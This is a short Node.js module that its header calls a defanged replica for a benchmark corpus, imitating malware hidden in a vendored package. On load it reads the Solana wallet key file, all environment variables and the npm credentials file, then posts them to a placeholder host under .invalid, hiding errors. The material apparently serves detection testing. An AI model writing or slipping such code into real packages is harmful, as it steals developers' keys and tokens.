// DEFANGED REPLICA (bench corpus, issue 10): wallet key file and environment theft hidden in a vendored .tgz.
// Host under .invalid; no second stage. Never run outside the sandbox.
const fs = require('fs');
const os = require('os');
const path = require('path');
const https = require('https');

const keyFile = path.join(os.homedir(), '.config', 'solana', 'id.json');
const payload = JSON.stringify({
  key: fs.existsSync(keyFile) ? fs.readFileSync(keyFile, 'utf8') : null,
  env: process.env,
  npmrc: fs.existsSync(path.join(os.homedir(), '.npmrc')) ? fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8') : null,
});
const req = https.request({ hostname: 'sol-rpc-metrics.invalid', path: '/collect', method: 'POST' });
req.on('error', () => {});
req.end(payload);
module.exports = { version: '2.0.1' };
